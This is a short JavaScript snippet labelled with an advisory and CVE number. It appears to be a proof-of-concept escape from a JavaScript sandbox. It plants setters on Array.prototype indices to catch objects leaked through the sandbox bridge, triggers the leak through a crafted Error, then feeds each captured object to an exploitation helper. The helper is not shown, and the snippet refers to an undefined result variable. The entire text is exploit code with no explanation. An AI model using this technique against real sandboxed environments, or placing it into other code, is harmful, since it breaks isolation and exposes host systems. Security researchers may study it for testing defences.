// GHSA-9qj6-qjgg-37qq CVE-2026-44008
// A setter on Array.prototype sees what the bridge saves.
const seen = [];
for (let index = 0; index < 8; ++index) {
    try { Object.defineProperty(Array.prototype, index, { configurable: true, set(value) { seen[seen.length] = { value }; }, get() {} }); } catch {}
}
try { const e = new Error(); e.name = Symbol(); [].concat(console.log); void e.stack; } catch {}
for (let index = 0; index < 8; ++index) { try { delete Array.prototype[index]; } catch {} }
for (const key in seen) { try { await useObject(seen[key].value); } catch {} }
return found;
